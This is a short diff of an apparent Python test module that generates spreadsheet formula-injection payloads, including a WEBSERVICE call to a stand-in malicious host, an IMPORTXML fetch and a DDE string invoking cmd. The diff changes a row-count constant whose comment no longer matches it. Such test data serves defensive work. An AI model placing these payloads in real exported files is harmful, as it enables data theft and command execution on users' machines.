@@ -42,7 +42,7 @@ _BODIES = [
     'WEBSERVICE("http://ondsind.example")', "SUM(A1:A9)", 'IMPORTXML("http://x","//a")', "MSEXCEL|'\\..\\cmd'!A1",
     "{1,2}", "'[bog.xlsx]Ark1'!A1",
 ]  # fmt: skip
-AMOUNTS = 23  # figures of the 13 amount lines of 2018, one row per year
+AMOUNTS = 15  # figures of the 13 amount lines of 2018, one row per year
 PAYLOADS = [start + body for start, body in product(_STARTS, _BODIES)]
 
 
